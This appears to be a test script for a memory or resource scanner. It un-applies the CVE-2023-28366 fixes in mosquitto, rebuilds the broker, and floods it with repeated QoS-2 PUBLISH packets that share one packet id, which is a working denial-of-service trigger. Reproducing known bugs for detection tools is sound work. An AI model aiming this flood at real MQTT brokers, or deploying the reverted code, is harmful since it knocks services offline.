#!/bin/sh
# SPDX-License-Identifier: MIT
# owner: ^db mosquitto__packet
# source: https://nvd.nist.gov/vuln/detail/CVE-2023-28366: a client that sends messages and reads no replies makes the queue of replies grow. The patches
#         of the fix are taken back.
. "$(dirname "$0")/lib"
if source_of mosquitto mosquitto-unlimited; then
	for patch in 0018-Further-fix-for-CVE-2023-28366 CVE-2023-28366-regression CVE-2023-28366; do
		patch -s -R -p1 -d "$PACKAGES/mosquitto-unlimited" <"$PACKAGES/mosquitto-unlimited/debian/patches/$patch.patch"
	done
	make -C "$PACKAGES/mosquitto-unlimited/src" -j"$(nproc)" mosquitto CFLAGS="-O2 -g" WITH_TLS=no WITH_CJSON=no WITH_SYSTEMD=no \
		WITH_WEBSOCKETS=no >build.log 2>&1
fi
printf 'listener 0 socket\nallow_anonymous true\nuser %s\n' "$(id -un)" >conf
python3 - <<'END' &
import os, signal, socket, struct, time
client = socket.socket(socket.AF_UNIX)
while client.connect_ex("socket") and os.getppid() > 1:
    time.sleep(0.1)
client.sendall(bytes.fromhex("100d 0004 4d515454 0402 0000 0001 63"))
publish = struct.pack("!BBH1sH5s", 0x34, 10, 1, b"t", 1, b"again")  # of the same number each time
for _ in range(20000):
    client.sendall(publish)
time.sleep(1)
open("ready", "w").close()
while not os.path.exists("scanned"):
    time.sleep(0.1)
os.kill(struct.unpack("3i", client.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0], signal.SIGTERM)
END
scan_when ready "$PACKAGES/mosquitto-unlimited/src/mosquitto" -c conf
